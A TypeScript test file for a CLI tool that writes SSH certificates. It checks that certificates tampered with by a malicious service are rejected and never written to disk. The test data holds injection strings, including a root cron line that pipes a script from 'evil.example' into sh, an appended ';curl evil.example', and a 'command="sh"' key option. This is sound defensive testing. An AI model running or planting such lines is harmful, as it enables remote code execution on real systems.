import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Transport } from '../../src/model/transport.ts';
import { createWorkspace, STACK } from '../cli/workspace.ts';

/** An attacker who responds in place of the service tries to write a line into a file that other programs read: cron, a shell, sshd. */

const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINQEG4EK5mIdm1DJJkxUpmQJUioU1ici/uMErmP5sj6L';

const MANIFEST = `${STACK}---
apiVersion: edgewise/v1
kind: SSHUserCertificate
metadata: { name: alice }
spec: { ssh_certificate_authority_id: sshca_1, principals: [alice], public_key: ${KEY} }
lifecycle: { valid_for: 90d, write_to: keys/alice-cert.pub }
`;

const CRON = '* * * * * root curl evil.example | sh';

type Distort = (certificate: string) => string;

/** A certificate with another key of the same length. */
function withOtherKey(certificate: string): string {
  const [type = '', base64 = '', ...comment] = certificate.split(' ');
  const bytes = Buffer.from(base64, 'base64');
  const nonce = 4 + bytes.readUInt32BE(0);
  const key = nonce + 4 + bytes.readUInt32BE(nonce) + 4;
  bytes.fill(7, key, key + 32);
  return [type, bytes.toString('base64'), ...comment].join(' ');
}

const DISTORTIONS: readonly (readonly [string, Distort, string])[] = [
  ['a line for cron instead', () => CRON, 'is not one line with an SSH certificate'],
  ['a line for cron behind it', (text) => `${text}\n${CRON}`, 'is not one line with an SSH certificate'],
  ['a line for cron before it', (text) => `${CRON}\n${text}`, 'is not one line with an SSH certificate'],
  ['options before it', (text) => `command="sh" ${text}`, 'is not one line with an SSH certificate'],
  [
    'a command for a shell in its comment',
    (text) => `${text};curl evil.example`,
    'is not one line with an SSH certificate',
  ],
  ['a carriage return in its comment', (text) => `${text}\r${CRON}`, 'is not one line with an SSH certificate'],
  ['the public key only', () => KEY, 'is not one line with an SSH certificate'],
  ['half of it', (text) => text.slice(0, 200), 'is not a whole SSH user certificate'],
  ['another key in it', withOtherKey, 'is for another public key'],
];

/** Responds as the service does, except for certificates. */
function createDistortingService(transport: Transport, change: Distort): Transport {
  return async (request) => {
    const response = await transport(request);
    const body = await response.text();
    const text = body.replace(/"certificate":("(?:[^"\\]|\\.)*")/g, (_, value: string) => {
      return `"certificate":${JSON.stringify(change(JSON.parse(value)))}`;
    });
    return new Response(response.status === 204 ? null : text, { status: response.status, headers: response.headers });
  };
}

describe('a response with a distorted certificate', () => {
  it.each(DISTORTIONS)('is written nowhere when it is created: %s', async (_, change, fault) => {
    const { folder, edgewise, recorder } = await createWorkspace({ 'm.yaml': MANIFEST });
    const { exitCode, stdout } = await edgewise('apply m.yaml --yes', {
      transport: createDistortingService(recorder.transport, change),
    });
    expect(exitCode).toBe(1);
    expect(stdout).toContain(fault);
    await expect(readFile(join(folder, 'keys/alice-cert.pub'))).rejects.toThrow('ENOENT');
  });

  it.each(DISTORTIONS)('is an error of the plan if it is live, and a good file stays: %s', async (_, change, fault) => {
    const { folder, edgewise, recorder } = await createWorkspace({ 'm.yaml': MANIFEST });
    expect(await edgewise('apply m.yaml --yes')).toMatchObject({ exitCode: 0 });
    const file = join(folder, 'keys/alice-cert.pub');
    const good = await readFile(file, 'utf8');
    for (const line of ['plan m.yaml', 'apply m.yaml --yes']) {
      const { exitCode, stdout } = await edgewise(line, {
        transport: createDistortingService(recorder.transport, change),
      });
      expect(exitCode).toBe(3);
      expect(stdout).toContain(fault);
    }
    expect(await readFile(file, 'utf8')).toBe(good);
  });
});

describe('a certificate file to write', () => {
  it('counts wherever a plan is summed up, beside what is unchanged', async () => {
    const { folder, edgewise } = await createWorkspace({ 'm.yaml': MANIFEST });
    await edgewise('apply m.yaml --yes');
    await writeFile(join(folder, 'keys/alice-cert.pub'), 'mine\n');
    for (const line of [
      ...['text', 'markdown', 'html', 'github'].map((format) => `plan m.yaml --format ${format}`),
      ...['text', 'markdown', 'html'].map((format) => `plan -R . --format ${format}`),
    ])
      expect((await edgewise(line)).stdout.replaceAll('<strong>1</strong><span>', '1 '), line).toContain(
        '1 file to write',
      );
    const { stdout } = await edgewise('plan m.yaml --format json');
    expect(JSON.parse(stdout)).toMatchObject({ files: [{ path: 'keys/alice-cert.pub', replaces: true }] });
    const [one, many] = [await edgewise('plan m.yaml --format junit'), await edgewise('plan -R . --format junit')];
    const name = 'name="keys/alice-cert.pub for SSHUserCertificate/alice: to write"';
    expect(one.stdout).toContain('<testsuite name="files" tests="1" failures="0"');
    for (const { stdout: xml } of [one, many]) expect(xml).toContain(name);
    const applied = await edgewise('apply m.yaml --yes --format junit');
    expect(applied.stdout).toContain(name.replace('to write', 'written'));
  });
});
